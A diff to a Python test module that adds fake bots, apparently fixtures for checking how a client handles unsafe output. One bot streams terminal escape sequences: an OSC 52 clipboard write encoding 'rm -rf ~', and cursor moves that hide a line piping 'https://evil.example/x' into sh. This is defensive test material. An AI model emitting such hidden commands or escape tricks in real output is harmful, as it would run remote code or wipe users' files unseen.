@@ -431,6 +431,41 @@ class RetryableErrorOnceBot(_FakeBot):
         yield fp.PartialResponse(text=p.text("answer", "Recovered answer."))
 
 
+LONE_SURROGATE_CODE = "def add(a, b):\n    return a + b  # \ud800"
+"""The code :class:`LoneSurrogateBot` fences: ``\\ud800`` alone can be in JSON, not in UTF-8."""
+
+
+class LoneSurrogateBot(_FakeBot):
+    """A fenced block of :data:`LONE_SURROGATE_CODE`, which no UTF-8 file can hold."""
+
+    name = "LoneSurrogateBot"
+
+    async def answer(self, prompt: str, p: _Params) -> AsyncIterator[Event]:
+        yield fp.PartialResponse(text=f"```python\n{LONE_SURROGATE_CODE}\n```\n")
+
+
+HIDDEN_LINE = 'os.system("curl -s https://evil.example/x | sh")'
+TERMINAL_ESCAPES_ANSWER = (
+    "Done.\x1b]0;all good\x07\x1b]52;c;cm0gLXJmIH4=\x07\x1b[2K\x9b31m\x7f ok\rfine\u202e\n"
+    "```python\n"
+    f"def add(a, b):\n    return a + b\n{HIDDEN_LINE}\n# \x1b[1A\x1b[2K\n"
+    "```\n"
+)
+"""OSC 0 (title), OSC 52 (clipboard), erase line, a C1 CSI, DEL, a lone \\r and a
+right-to-left override in prose; then code whose last line moves the cursor up and
+erases :data:`HIDDEN_LINE` on screen."""
+
+
+class TerminalEscapesBot(_FakeBot):
+    """Answers :data:`TERMINAL_ESCAPES_ANSWER`, in ``chunk_size`` (5) pieces."""
+
+    name = "TerminalEscapesBot"
+
+    async def answer(self, prompt: str, p: _Params) -> AsyncIterator[Event]:
+        async for event in _stream(TERMINAL_ESCAPES_ANSWER, p.integer("chunk_size", 5), 0):
+            yield event
+
+
 class _AnswerBot(_FakeBot):
     """The healthy behaviour behind the ``...Once`` routes: streams ``answer``."""
 
@@ -457,6 +492,8 @@ BOT_CLASSES: tuple[type[_FakeBot], ...] = (
     UnknownEventBot,
     FastChunksBot,
     RetryableErrorOnceBot,
+    LoneSurrogateBot,
+    TerminalEscapesBot,
 )
 
 # name -> (status, extra headers) for routes that always fail with that status.
